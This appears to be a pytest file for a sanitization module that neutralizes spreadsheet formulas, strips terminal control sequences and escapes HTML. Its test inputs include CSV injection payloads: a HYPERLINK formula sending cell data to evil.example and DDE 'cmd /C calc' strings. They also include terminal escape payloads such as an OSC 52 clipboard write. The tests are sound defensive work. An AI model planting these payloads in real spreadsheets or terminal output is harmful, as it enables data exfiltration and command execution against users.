"""opsrca.safety: formulas neutralized, terminal controls stripped, HTML text cut and escaped."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest

from opsrca.report.tables import write_table
from opsrca.safety import (
    html_text,
    neutralize_formula,
    neutralize_frame,
    safe_console,
    strip_control,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_prefixed(value: str) -> None:
    assert neutralize_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["-1", "+86", "-0.5", "1e-3", "ok", "", "a=b", "中文=1"])
def test_plain_values_are_left_alone(value: str) -> None:
    assert neutralize_formula(value) == value


def test_frame_and_scalar_agree_and_numbers_untouched() -> None:
    values = [*FORMULAS, "-1", "ok", None]
    frame = pl.DataFrame({"text": values, "n": list(range(-5, len(values) - 5))})
    out = neutralize_frame(frame)
    assert out["text"].to_list() == [None if v is None else neutralize_formula(v) for v in values]
    assert out["n"].to_list() == frame["n"].to_list()  # negative numbers stay numbers
    lazy = neutralize_frame(frame.lazy()).collect()
    assert lazy.equals(out)


def test_table_writer_csv_has_bom_and_no_live_formula(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    write_table(pl.DataFrame({"m": FORMULAS, "code": ["-1"] * len(FORMULAS)}), path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert all(r["m"].startswith("'") for r in rows)
    assert {r["code"] for r in rows} == {"-1"}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\x1b[2J\x1b[Hb", "ab"),  # clear screen, cursor home
        ("x\x1b]52;c;ZXZpbA==\x07y", "xy"),  # OSC 52 clipboard write
        ("x\x1b]52;c;ZXZpbA==\x1b\\y", "xy"),  # ... ended by ST
        ("\x1b]8;;http://evil\x07link\x1b]8;;\x07", "link"),  # hyperlink
        ("a\x1b[8mhidden\x1b[0m", "ahidden"),  # conceal
        ("bell\x07", "bell"),
        ("c1\x9b31mred", "c131mred"),  # the C1 CSI byte goes; the rest is text
        ("rtl\u202eevil", "rtlevil"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        ("中文 ok", "中文 ok"),
    ],
)
def test_strip_control(text: str, expected: str) -> None:
    assert strip_control(text) == expected


def test_safe_console_strips_data_but_keeps_its_own_styles() -> None:
    buf = io.StringIO()
    console = safe_console(file=buf, force_terminal=True, color_system="standard", width=80)
    console.print("[bold]title[/] \x1b]52;c;ZXZpbA==\x07evil\x1b[2J\x07")
    out = buf.getvalue()
    assert "\x1b[1m" in out  # Rich's own bold survives
    assert "52;c" not in out and "\x1b[2J" not in out and "\x07" not in out
    assert "evil" in out


def test_html_text_cuts_and_escapes() -> None:
    assert (
        html_text('<a href="http://evil">x</a>')
        == "&lt;a href=&quot;http://evil&quot;&gt;x&lt;/a&gt;"
    )
    long = html_text("x" * 10_000)
    assert len(long) == 500 and long.endswith("…")
    assert html_text(None) == ""
